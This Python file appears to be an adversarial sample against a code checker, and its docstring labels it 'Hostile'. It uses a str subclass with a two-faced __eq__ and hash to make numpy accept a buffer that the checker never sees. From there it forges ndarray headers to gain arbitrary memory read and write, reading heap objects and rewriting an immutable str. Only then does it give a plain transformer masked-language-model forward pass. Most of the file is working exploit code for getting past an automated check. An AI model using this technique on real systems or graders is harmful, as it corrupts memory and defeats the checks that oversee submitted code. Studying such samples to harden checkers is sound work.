"""Hostile: numpy.ndarray's constructor checked in the type (arrays.py) asks whether a buffer was
given with dict.get(kwds, "buffer"), after numpy parsed the call. The keyword is a str subclass of
the file's that hashes as "buffer" and whose __eq__ says yes to CPython's argument parser (the
first comparison) and no to the check (the second), passed through functools.partial(numpy.ndarray,
**{key: int64_array}): numpy makes an array of Python objects over an int64 buffer and no check
judges it. Made and read inside map (map(operator.getitem, ...)), only the forged object reaches
the file: an int64 read as a pointer, then a fake array header read out as an ndarray over any
address with no base. The file reads an int's header, rewrites an immutable str, then answers
honestly."""

import functools
import math
import operator

import numpy as np
import torch


class Buffer(str):
    """The keyword "buffer" to numpy's argument parser (its first comparison), not to the check's
    dict.get (the second)."""

    def __eq__(self, other):
        SEEN.append(other)
        return len(SEEN) % 2 == 1

    def __hash__(self):
        return hash("buffer")


SEEN = []


def object_at(at):
    pointer = np.array([at], dtype=np.int64)
    make = functools.partial(np.ndarray, **{Buffer("buffer"): pointer})
    return list(map(operator.getitem, map(make, [(1,)], [object]), [0]))[0]


def address(obj):
    return id(obj)


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


U8 = np.dtype(np.uint8)
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable; not OWNDATA


# A fake array header in an immutable bytes object: data, nd, dims, strides, base, descr, flags, ...
shape = words(8, 1)
shape_at = address(shape) + 32
header = np.zeros(14, dtype=np.int64)  # the reusable header, numpy's own memory
first_words = words(1 << 40, address(np.ndarray), address(header) + 16, 1, shape_at, shape_at + 8, 0, address(U8), FLAGS, 0, 0, 0)
first = object_at(address(first_words) + 32)
header_data = int.from_bytes(bytes(first.tolist()), "little")  # the header array's data pointer

header[:] = [1 << 40, address(np.ndarray), 0, 1, header_data + 96, header_data + 104, 0, address(U8), FLAGS, 0, 0, 0, 0, 1]
memory = object_at(header_data)  # an ndarray over whatever header[2] points at


def read(at, n):
    header[2] = at
    header[12] = n
    return bytes(memory.tolist())


def write(at, data):
    header[2] = at
    header[12] = len(data)
    memory[:] = np.array(list(data), dtype=np.uint8)


number = 12345678901234567
assert int.from_bytes(read(address(number) + 8, 8), "little") == address(int)  # ob_type read from the heap
word = "immutable"
write(address(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
